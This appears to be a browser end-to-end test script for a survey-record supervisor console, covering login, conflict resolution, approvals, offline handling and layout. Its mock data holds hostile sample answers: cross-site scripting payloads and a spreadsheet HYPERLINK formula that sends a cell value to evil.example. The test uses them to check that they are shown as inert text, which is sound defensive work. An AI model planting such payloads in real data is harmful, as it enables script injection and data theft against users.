#!/usr/bin/env node
// The console as a supervisor uses it, in a real browser.
//   node console_test.mjs --out DIR              against the mock of the API
//   node console_test.mjs --out DIR --bin DIR    against doorstep-server, with what two doorstep-tablets brought
import assert from 'node:assert/strict'
import { spawn } from 'node:child_process'
import { fileURLToPath } from 'node:url'
import { openPage, shooter, startBrowser } from './browser.mjs'
import { startOffice } from './real_world.mjs'

const option = (name) => (process.argv.includes(name) ? process.argv[process.argv.indexOf(name) + 1] : undefined)
const out = option('--out') ?? 'console-pictures'
const shoot = shooter(out)

const mockWorld = {
  name: 'liu', password: 'doorstep-mock',
  settle: { find: '王秀英', answers: ['王秀英', '138 0000 0000'], conflicts: [{ label: '常住人口', sides: ['4', '2'], base: '3', choose: '2' }, { label: '您认为社区最需要解决的方面（限选 3 项）', sides: ['社会设施维护、社会环境卫生治理', '社会设施维护、停车与出行'], choose: 'both', shows: '停车与出行' }], photos: 3 },
  giveBack: { find: '李国强', label: '具体意见和建议', photoAway: true },
  approve: { find: '马先生' },
  hostile: { find: 'onerror', texts: ['<img src=x onerror="window.__hacked=1">', '=HYPERLINK("http://evil.example/"&A1,"点我")', '<script>window.__hacked=1</script>'], long: 100_000, bidi: true },
  mock: true,
}

async function startMock() {
  const child = spawn(process.execPath, [fileURLToPath(new URL('mock_server.mjs', import.meta.url))], { stdio: ['ignore', 'pipe', 'inherit'] })
  const base = await new Promise((found) => child.stdout.on('data', (said) => { const m = /LISTENING (\S+)/.exec(said); if (m) found(m[1]) }))
  return { base, stop: () => child.kill() }
}

let passed = 0
async function step(name, act) {
  try {
    await act()
    passed++
    console.log(`ok    ${name}`)
  } catch (error) {
    console.error(`FAIL  ${name}\n      ${error.message}`)
    throw error
  }
}

const tr = (lang, zh, en) => (lang === 'zh' ? zh : en)

async function signIn(page, world) {
  await page.fill('input[name=username]', world.name)
  await page.fill('input[name=password]', world.password)
  await page.keyboard.press('Enter')
}

/** Finds a record by the search box and opens it with the keyboard alone. */
async function open(page, base, find) {
  await page.goto(`${base}/records?state=all`)
  await page.waitForSelector('a.open')
  await page.keyboard.press('/')
  await page.keyboard.type(find)
  await page.waitForFunction((q) => new URL(location.href).searchParams.get('q') === q, find)
  await page.waitForFunction(() => document.querySelectorAll('a.open').length === 1)
  await page.locator('h1').click()
  await page.keyboard.press('Enter')
  await page.waitForSelector('.answer')
}

async function noSidewaysScroll(page, where) {
  const [content, window_] = await page.evaluate(() => [document.documentElement.scrollWidth, window.innerWidth])
  assert.ok(content <= window_ + 1, `${where} is ${content} px wide in a window of ${window_}`)
}

async function supervise(base, world, lang, width, height) {
  const { page, context, troubles } = await openPage(browser, base, { lang, width, height })
  const picture = (name) => shoot(page, `${name}-${lang}-${width}`)
  const say = (zh, en) => tr(lang, zh, en)

  await step('a page asked for without a session leads to the login', async () => {
    await page.goto(`${base}/conflicts`)
    await page.waitForSelector('form')
    assert.match(page.url(), /\/login\?back=/)
    assert.equal(await page.evaluate(() => document.activeElement?.getAttribute('name')), 'username')
    await picture('login')
  })
  await step('a wrong password is told in words and keeps the name', async () => {
    await signIn(page, { ...world, password: 'wrong password' })
    await page.getByRole('alert').waitFor()
    assert.match(await page.getByRole('alert').innerText(), new RegExp(say('用户名或密码不对', 'wrong')))
    assert.equal(await page.inputValue('input[name=username]'), world.name)
    await picture('login-wrong')
  })
  await step('the right one leads back to the page asked for', async () => {
    await signIn(page, world)
    await page.waitForURL(`${base}/conflicts`)
    await page.waitForSelector('table, .face')
    await picture('conflicts')
  })
  await step('neither the session nor any answer is within reach of scripts or kept in the browser', async () => {
    assert.doesNotMatch(await page.evaluate(() => document.cookie), /sid/)
    assert.deepEqual(await page.evaluate(() => [...Object.keys(localStorage), ...Object.keys(sessionStorage)]), ['doorstep.prefs'])
  })
  await step('the missing backup target stands in red words', async () => {
    const strip = page.locator('.strip.backup')
    await strip.waitFor()
    assert.match(await strip.innerText(), new RegExp(say('还没有备份目标', 'No backup target')))
    assert.equal(await strip.evaluate((e) => getComputedStyle(e).color), 'rgb(163, 27, 20)')
  })
  await step('the list of records is shown and walked by keyboard', async () => {
    await page.goto(`${base}/records`)
    await page.waitForSelector('a.open')
    await picture('records')
    const count = await page.locator('a.open').count()
    await page.keyboard.press('j')
    assert.equal(await page.evaluate(() => [...document.querySelectorAll('a.open')].indexOf(document.activeElement)), Math.min(1, count - 1))
    const outline = await page.evaluate(() => getComputedStyle(document.activeElement).outlineStyle)
    assert.notEqual(outline, 'none', 'focus cannot be seen')
  })
  await step('a record is found by words and opened, with its answers and photos', async () => {
    await open(page, base, world.settle.find)
    for (const text of world.settle.answers) await page.locator('.answer', { hasText: text }).first().waitFor()
    await page.locator('.slot img').first().waitFor()
    await page.waitForFunction((n) => [...document.querySelectorAll('.slot img')].filter((i) => i.complete && i.naturalWidth > 0).length >= n, world.settle.photos)
    await picture('review')
  })
  await step('a photo opens large, and its bytes are checked against the signed hash', async () => {
    await page.keyboard.press('z')
    await page.locator('dialog[open] img').waitFor()
    await page.waitForFunction(() => document.querySelector('dialog[open] img').naturalWidth > 0)
    await page.getByRole('button', { name: say('核对照片', 'Check photo') }).click()
    await page.getByText(say('与记录中的哈希一致', 'Matches the hash')).waitFor()
    await picture('photo')
    await page.keyboard.press('Escape')
    await page.waitForFunction(() => !document.querySelector('dialog[open]'))
  })
  await step('a record with open conflicts cannot be approved', async () => {
    assert.ok(await page.locator('button.approve').isDisabled())
    await page.keyboard.press('a')
    assert.equal(await page.locator('.approval').count(), 0)
  })
  for (const [i, conflict] of world.settle.conflicts.entries()) {
    await step(`a conflict shows both sides and is settled: ${conflict.label}`, async () => {
      const row = page.locator('.answer', { has: page.locator('.conflict') }).filter({ hasText: conflict.label })
      for (const side of conflict.sides) await row.locator('.side', { hasText: side }).first().waitFor()
      if (conflict.base) assert.match(await row.locator('.head').innerText(), new RegExp(`${conflict.base}\\s*$`))
      assert.equal(await row.locator('input:checked').count(), 0, 'something is chosen beforehand')
      if (conflict.choose === 'both') await row.locator('.side', { hasText: say('两边都要', 'Keep both') }).click()
      else await row.locator('.side').filter({ has: page.locator('.value', { hasText: new RegExp(`^\\s*${conflict.choose}\\s*$`) }) }).click()
      await row.getByRole('button', { name: say('已电话核实', 'Confirmed by phone') }).click()
      if (i === 0) {
        await row.locator('.conflict').scrollIntoViewIfNeeded()
        await picture('conflict')
      }
      await row.getByRole('button', { name: say('定下来', 'Settle') }).click()
      await page.locator('.answer', { hasText: conflict.label }).filter({ hasText: conflict.shows ?? conflict.choose }).and(page.locator(':not(:has(.conflict))')).waitFor()
    })
  }
  await step('the history tells who answered what, and why it was settled so', async () => {
    await page.keyboard.press('h')
    const drawer = page.locator('.el-drawer.open')
    await drawer.locator('.changes > li').first().waitFor()
    assert.match(await drawer.innerText(), new RegExp(say('已电话核实', 'Confirmed by phone')))
    await page.waitForTimeout(200)
    await picture('history')
    await page.keyboard.press('Escape')
    await drawer.waitFor({ state: 'detached' })
  })
  for (const hostile of [world.hostile, world.formula].filter(Boolean)) await step('hostile answers stay text', async () => {
    await open(page, base, hostile.find)
    const text = await page.locator('.middle').innerText()
    for (const bad of hostile.texts) assert.ok(text.includes(bad), `missing: ${bad}`)
    if (hostile.bidi) assert.ok(text.includes('U+202E'), 'an override of direction is not shown')
    assert.equal(await page.evaluate(() => window.__hacked), undefined)
    assert.equal(await page.locator('.middle img, .middle script, .left img').count(), 0)
    if (hostile.long) {
      await page.locator('.more').first().click()
      assert.ok((await page.locator('.answerText.whole').innerText()).length >= hostile.long)
      await page.locator('.more').first().click()
    }
    await noSidewaysScroll(page, 'the hostile record')
    await picture(hostile === world.formula ? 'formula' : 'hostile')
  })
  await step('a comment is pinned on an answer with the keyboard and goes with the return', async () => {
    await open(page, base, world.giveBack.find)
    if (world.giveBack.photoAway) await page.locator('.slot.away').waitFor()
    await page.locator('.answer', { hasText: world.giveBack.label }).focus()
    await page.keyboard.press('c')
    await page.locator('.editor textarea').waitFor()
    await page.keyboard.type('请核实后重填')
    await picture('comment')
    await page.getByRole('button', { name: say('随退回发出', 'Send with return') }).click()
    await page.locator('.pinned.draft').waitFor()
    await page.reload()
    await page.locator('.pinned.draft', { hasText: '请核实后重填' }).waitFor()
    await page.keyboard.press('r')
    const preview = page.locator('.preview')
    await preview.waitFor()
    assert.match(await preview.innerText(), /请核实后重填/)
    await page.waitForTimeout(200)
    await picture('return')
    await page.locator('.el-drawer.open .el-drawer__footer .el-button--primary').click()
    await page.locator('.top .stateWord.returned').waitFor()
    await page.locator('.pinned:not(.draft)', { hasText: '请核实后重填' }).waitFor()
    await picture('returned')
  })
  await step('an approval can be taken back, and is sent when it is not', async () => {
    await open(page, base, world.approve.find)
    await page.keyboard.press('a')
    await page.locator('.approval').waitFor()
    await picture('approving')
    await page.keyboard.press('u')
    await page.getByText(say('已撤销，没有送出', 'Taken back')).waitFor()
    await page.keyboard.press('a')
    await page.locator('.top .stateWord.approved').waitFor({ timeout: 15_000 })
    await picture('approved')
  })
  await step('shortcuts can be switched off', async () => {
    await page.keyboard.press('?')
    await page.locator('.el-dialog .el-switch').waitFor()
    await picture('keys')
    await page.locator('.el-dialog .el-switch').click()
    await page.keyboard.press('Escape')
    await page.locator('.el-dialog').waitFor({ state: 'hidden' })
    await page.keyboard.press('h')
    await page.waitForTimeout(300)
    assert.equal(await page.locator('.el-drawer:visible').count(), 0)
    await page.evaluate(() => localStorage.setItem('doorstep.prefs', JSON.stringify({ ...JSON.parse(localStorage.getItem('doorstep.prefs')), shortcuts: true })))
  })
  await step('devices, people and forms are there; a code is issued', async () => {
    for (const name of ['forms', 'users', 'devices']) {
      await page.goto(`${base}/${name}`)
      await page.waitForSelector('table')
      await picture(name)
    }
    await page.locator('.pageHead .el-button--primary').click()
    await page.locator('.el-dialog .el-select').click()
    await page.locator('.el-select-dropdown__item').first().click()
    await page.locator('.el-dialog__footer .el-button--primary').click()
    await page.locator('.code .big').waitFor()
    assert.match(await page.locator('.code .big').innerText(), /^[0-9A-HJKMNP-TV-Z]{5}(-[0-9A-HJKMNP-TV-Z]{5}){3}$/)
    await picture('code')
    await page.keyboard.press('Escape')
  })
  await step('without a network it says so, keeps what was read, and goes on by itself', async () => {
    await open(page, base, world.approve.find)
    await context.setOffline(true)
    await page.keyboard.press('k')
    await page.evaluate(() => window.dispatchEvent(new Event('online')))
    await page.locator('.strip.offline').waitFor()
    assert.ok(await page.locator('.answer').count() > 0)
    await picture('offline')
    await context.setOffline(false)
    await page.locator('.strip.offline').waitFor({ state: 'detached' })
  })
  await step('a session that has ended leads to the login and back', async () => {
    const here = page.url()
    await context.clearCookies()
    await page.locator('button', { hasText: say('分派', 'Assign') }).click()
    await page.waitForURL(/\/login\?/)
    await page.getByText(say('登录已到期', 'session has ended')).waitFor()
    await signIn(page, world)
    await page.waitForURL(here)
    await page.waitForSelector('.answer')
  })
  assert.deepEqual(troubles.filter((t) => !/net::ERR_INTERNET_DISCONNECTED/.test(t)), [], 'the browser complained')
  await context.close()
}

/** A decision on a record that somebody changed meanwhile writes nothing and shows what changed. */
async function changedSince(base, world) {
  const { page, context, troubles } = await openPage(browser, base)
  await step('a record that changed since it was read is not approved, and the change is marked', async () => {
    await page.goto(base)
    await signIn(page, world)
    await page.waitForSelector('a.open')
    await open(page, base, world.behind.find)
    await world.behind.change(page)
    await page.keyboard.press('a')
    await page.getByText('您查看后这条记录又有变更').waitFor({ timeout: 15_000 })
    await page.locator('.answer.fresh').waitFor()
    assert.equal(await page.locator('.top .stateWord.approved').count(), 0)
    await shoot(page, 'behind-zh-1280')
  })
  assert.deepEqual(troubles, [])
  await context.close()
}

/** 200 % zoom of 1280 × 800, and a small window: nothing is cut or scrolls sideways. */
async function zoomed(base, world) {
  for (const [width, height, scale] of [[640, 400, 2], [1024, 700, 1]]) {
    const { page, context } = await openPage(browser, base, { width, height, scale })
    await step(`everything can be reached in a window of ${width} × ${height}`, async () => {
      await page.goto(base)
      await signIn(page, world)
      await page.waitForSelector('a.open')
      await shoot(page, `records-zh-${width}`)
      for (const name of ['records', 'conflicts', 'devices', 'users', 'forms']) {
        await page.goto(`${base}/${name}`)
        await page.waitForSelector('table, .face')
        await noSidewaysScroll(page, name)
      }
      await open(page, base, world.settle.find)
      await noSidewaysScroll(page, 'review')
      await shoot(page, `review-zh-${width}`)
      await page.locator('button.approve').scrollIntoViewIfNeeded()
      assert.ok(await page.locator('button.approve').isVisible())
    })
    await context.close()
  }
}

const browser = await startBrowser()
let running
try {
  const bin = option('--bin')
  const passes = [['zh', 1280, 800], ['en', 1440, 900]]
  if (bin) {
    running = await startOffice(bin)
    const { base, name, password } = running.worlds
    for (const [lang, width, height] of passes) await supervise(base, { name, password, ...running.worlds[lang] }, lang, width, height)
    await changedSince(base, { name, password, ...running.worlds.zh })
    await zoomed(base, { name, password, ...running.worlds.zh })
  } else {
    const change = (page) => page.evaluate(async () => {
      const [, , scope, id] = location.pathname.split('/')
      await fetch(`/mock/edit/${scope}/${id}`, { method: 'POST', body: JSON.stringify({ path: 'need/text', value: '又想起一件事：路灯不亮。' }) })
    })
    for (const [lang, width, height] of passes) {
      running = await startMock()
      await supervise(running.base, mockWorld, lang, width, height)
      if (lang === 'zh') {
        await changedSince(running.base, { ...mockWorld, behind: { find: '何先生', change } })
        await zoomed(running.base, mockWorld)
      }
      await running.stop()
    }
  }
  console.log(`PASS ${passed}`)
} catch (error) {
  console.error(error)
  process.exitCode = 1
} finally {
  await browser.close()
  await running?.stop()
}
